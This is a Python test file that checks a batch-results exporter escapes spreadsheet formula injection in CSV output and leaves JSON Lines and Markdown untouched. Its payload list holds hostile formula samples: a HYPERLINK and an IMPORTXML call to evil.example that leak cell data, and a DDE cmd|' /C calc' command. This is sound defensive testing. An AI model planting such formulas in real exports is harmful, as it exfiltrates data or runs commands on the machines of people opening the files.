"""Batch results as CSV are safe to open in a spreadsheet: a cell whose text could be read as a
formula (OWASP: = + - @ tab carriage-return) starts with a single quote instead. JSON Lines and
Markdown keep the text exactly as it was."""

from __future__ import annotations

import csv
import io
import json
import random
import string

import pytest

from pixdesk.services.batch import RESULT_FIELDS, results_text
from pixdesk.store.batch import BatchItem, BatchJob

FORMULA_STARTS = "=+-@\t\r"
PAYLOADS = (
    'HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "1+cmd|' /C calc'!A0",
    "SUM(1,2)",
    "2+3",
    '@IMPORTXML("http://evil.example","//a")',
)


def _hostile_texts(starts: str, count: int) -> list[str]:
    """Text starting with a character a spreadsheet reads as a formula, followed by a formula."""
    texts = []
    for start in starts:
        for _ in range(count):
            noise = "".join(random.choices(string.ascii_letters + " ,;\"'\n\r", k=random.randint(0, 12)))
            texts.append(start + random.choice(PAYLOADS) + noise)
    return texts


def _job() -> BatchJob:
    return BatchJob(
        7, "=cmd|' /C calc'!A0", "2024-05-01T10:00:00+00:00", "eu-west-1", "default", 1024, "", None, {"done": 1}
    )


def _items(texts: list[str]) -> list[BatchItem]:
    items = []
    for position, text in enumerate(texts):
        items.append(
            BatchItem(
                position + 1,
                7,
                position,
                path=f"{text}.png",
                page=0,
                prompt=text,
                status="done",
                answer=text,
                audit={
                    "input_tokens": 10,
                    "output_tokens": 5,
                    "request_id": text,
                    "profile_id": text,
                    "error_message": text,
                    "started_at": "2024-05-01T10:00:00+00:00",
                },
            )
        )
    return items


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(start):
    texts = _hostile_texts(start, 4)
    rows = list(csv.DictReader(io.StringIO(results_text(_job(), _items(texts), "csv"))))
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=False):
        for field in ("file", "prompt", "answer", "request_id", "profile_id", "error"):
            cell = row[field]
            assert not cell.startswith(tuple(FORMULA_STARTS)), (field, cell)
            assert cell == "'" + (f"{text}.png" if field == "file" else text)  # nothing else changed
        assert (row["page"], row["input_tokens"], row["output_tokens"]) == ("1", "10", "5")  # numbers: as they were


def test_jsonl_and_markdown_keep_the_text_as_it_was():
    texts = _hostile_texts(FORMULA_STARTS, 1)
    lines = [json.loads(line) for line in results_text(_job(), _items(texts), "jsonl").splitlines()]
    assert [line["answer"] for line in lines] == texts and [line["prompt"] for line in lines] == texts
    markdown = results_text(_job(), _items(texts), "md")
    for text in texts:
        assert f"**Prompt:** {text}" in markdown


def test_the_cell_helper_leaves_ordinary_text_and_numbers_alone():
    from pixdesk.services.batch import spreadsheet_cell

    for value in ("A chart of sales", "scan.pdf", " =not first", "", "'=already quoted", 12, -3, 0.5, None):
        assert spreadsheet_cell(value) == value
    for start in FORMULA_STARTS:
        assert spreadsheet_cell(start) == "'" + start
    assert set(RESULT_FIELDS) >= {"file", "prompt", "answer", "error"}
